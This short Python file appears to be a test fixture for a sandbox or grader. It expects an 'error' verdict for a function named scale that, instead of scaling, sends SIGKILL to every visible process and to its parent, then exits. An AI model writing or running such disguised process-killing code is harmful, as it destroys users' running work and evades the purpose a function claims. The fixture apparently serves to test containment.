"""Verdict: error. P8: signals every process it can see."""

import os
import signal


def scale(x, factor):
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getppid(), signal.SIGKILL)
    os._exit(1)
